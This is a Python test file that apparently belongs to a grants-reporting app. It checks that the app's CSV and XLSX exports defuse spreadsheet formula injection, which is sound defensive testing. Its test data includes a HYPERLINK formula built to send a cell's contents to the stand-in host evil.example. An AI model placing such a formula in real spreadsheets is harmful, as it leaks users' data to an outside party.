"""Formula injection in the spreadsheet exports (OWASP "CSV injection"; ASVS 5.0 1.2.10): every leading character
that a spreadsheet program reads as the start of a formula or command, in every text column of the CSV and XLSX
files, comes out as text. The CSV has no types, so such a text gets a quote in front; the XLSX stores it as a string
cell (never a formula), exactly as typed."""

import csv
import io

import pytest
from openpyxl import load_workbook

from grants.outcomes import exports

# Written out here rather than read from the module, so that dropping one from the guard fails this test.
LEADING = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "carriage return": "\r", "nul": "\0"}
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"Klikk")'
TEXT_COLUMNS = ("reference", "municipality_number", "municipality", "county", "title", "summary")


def grant(**values):
    row = {"reference": "2025-0001", "municipality_number": "0301", "municipality": "Oslo", "county": "Oslo",
           "partners": ["Bærum"], "title": "Tiltak", "summary": "Om tiltaket", "amount": 250_000,
           "continuation": False}
    row.update(values)
    return row


def csv_rows(data):
    text = exports.to_csv(data)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_rows(data):
    """The grant rows of the XLSX file by column key (the header row holds titles in the reader's language; the
    last row is the total)."""
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(data))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    last = sheet.max_row - 1
    return [dict(zip(exports.FIELDS, row, strict=True)) for row in sheet.iter_rows(min_row=2, max_row=last)]


@pytest.mark.parametrize("column", (*TEXT_COLUMNS, "partners"))
@pytest.mark.parametrize("name", LEADING)
def test_a_leading_formula_character_in_any_text_column_is_quoted(name, column):
    value = LEADING[name] + PAYLOAD
    data = {"grants": [grant(**{column: [value, "Asker"] if column == "partners" else value})]}
    expected = "'" + value + (", Asker" if column == "partners" else "")

    (row,) = csv_rows(data)
    assert row[column] == expected

    (cells,) = xlsx_rows(data)
    cell = cells[column]
    assert cell.data_type == "s", (name, column, cell.data_type)  # a string cell: shown as text, never run
    typed = value + (", Asker" if column == "partners" else "")
    # Exactly as typed, with no quote; but XML cannot hold a NUL (no form lets one through).
    assert cell.value == typed.replace("\0", "")


@pytest.mark.parametrize("value", ["Kartlegging", "'=already quoted", " =1+1", "Oslo = hovedstaden", "e-post@x.no"])
def test_text_that_does_not_start_a_formula_is_left_as_typed(value):
    data = {"grants": [grant(title=value)]}
    assert csv_rows(data)[0]["title"] == value
    assert xlsx_rows(data)[0]["title"].value == value


def test_numbers_stay_numbers_and_are_never_quoted():
    data = {"grants": [grant(amount=-5, continuation=True)]}
    (cells,) = xlsx_rows(data)
    assert cells["amount"].value == -5 and cells["amount"].data_type == "n"
    assert csv_rows(data)[0]["amount"] == "-5"
    assert exports.neutralise(-5) == -5 and exports.neutralise(None) is None
